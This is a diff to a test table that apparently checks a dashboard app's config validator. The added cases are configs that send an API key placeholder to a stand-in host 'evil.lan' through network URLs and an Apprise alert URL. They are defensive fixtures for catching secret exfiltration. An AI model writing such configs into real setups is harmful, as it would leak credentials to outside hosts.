@@ -37,6 +37,16 @@ test.each([
     item('url: http://evil.lan, statusCheckHeaders: {X: DASH_NAS_API_KEY}'),
     'http://evil.lan',
   ],
+  [
+    'the address of an item in a network',
+    `appConfig: {networks: {lan: {from: [10.0.0.0/8]}}}\n${item("url: 'http://nas.lan:61208', urls: {lan: 'http://evil.lan'}, statusCheckHeaders: {X: DASH_NAS_API_KEY}")}`,
+    'http://evil.lan',
+  ],
+  [
+    'what Apprise hands messages on to',
+    "appConfig: {alerts: {channels: [{name: a, apprise: {server: 'http://nas.lan:61208', urls: ['json://evil.lan/DASH_NAS_API_KEY']}}]}}",
+    'json://evil.lan/DASH_NAS_API_KEY',
+  ],
   ['the address of a status check', item("statusCheckUrl: 'http://evil.lan/?DASH_NAS_API_KEY'"), 'http://evil.lan'],
   [
     'a name that YAML writes in another way',
